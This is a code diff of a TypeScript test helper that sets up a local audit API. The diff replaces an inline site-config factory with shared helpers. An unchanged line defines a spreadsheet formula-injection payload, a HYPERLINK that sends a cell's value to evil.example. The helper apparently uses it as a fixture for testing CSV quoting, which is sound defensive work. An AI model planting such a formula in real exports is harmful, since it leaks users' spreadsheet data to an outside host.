@@ -4,18 +4,17 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { PutObjectCommand } from "@aws-sdk/client-s3";
 import type { z } from "zod";
-import { BUS, EVENTS_TABLE, SEAL_KEY, VIEWS_TABLE } from "../../infra/topology.ts";
 import { serveApi } from "../../local/api-server.ts";
 import { startEndpoint } from "../../local/endpoint/endpoint.ts";
 import { REGION } from "../../local/http.ts";
-import { BUCKETS, provisionEngine } from "../../local/provision/engine-resources.ts";
+import { BUCKETS, HERE, provisionEngine } from "../../local/provision/engine-resources.ts";
 import { createApi } from "../../services/api/app.ts";
 import type { AuditPage } from "../../services/api/contract.ts";
 import { apiPorts } from "../../services/api/wiring.ts";
 import { awsClients } from "../../services/aws/clients.ts";
-import type { SiteConfig } from "../../services/kit/config.ts";
 import { type Engine, engine as makeEngine, systemClock } from "../../services/kit/engine.ts";
 import { artifact, check, release } from "./samples.ts";
+import { siteConfigOf } from "./site-config.ts";
 
 export type Row = z.infer<typeof AuditPage>["rows"][number];
 
@@ -24,19 +23,6 @@ const MINUTE = 60_000;
 /** What a spreadsheet would run, and what a CSV must quote. */
 export const EVIL = `=HYPERLINK("https://evil.example/?"&A1,"why")`;
 export const LINES = 'it is "broken",\nsays ada';
-
-const place = (site: string, environment: string): SiteConfig => ({
-  site,
-  environment,
-  host: `${site}.example.com`,
-  url: `https://${site}.example.com`,
-  checkPath: "/",
-  variables: [],
-  architecture: "x86_64",
-  distribution: null,
-  revalidationQueueUrl: "https://queue",
-  buildTimeoutMinutes: 20,
-});
 
 /**
  * An engine's API on a loopback port, with a past of the last hour, one minute a step, that people gave by the API:
@@ -49,13 +35,8 @@ export const startAuditedPast = async () => {
   const clients = awsClients({ region: REGION, endpoint: endpoint.url, credentials: { accessKeyId: "local", secretAccessKey: "local" } });
   await provisionEngine(clients);
   const config = {
-    region: REGION,
-    eventsTable: EVENTS_TABLE,
-    viewsTable: VIEWS_TABLE,
-    bus: BUS,
-    buckets: BUCKETS,
-    sealKey: SEAL_KEY,
-    sites: [place("web", "production"), place("web", "staging"), place("docs", "production")],
+    ...HERE,
+    sites: [siteConfigOf("web", "production"), siteConfigOf("web", "staging"), siteConfigOf("docs", "production")],
     tokens: { ci: hash("sha256", TOKEN, "hex") },
     loopbackWebhooks: true,
   };
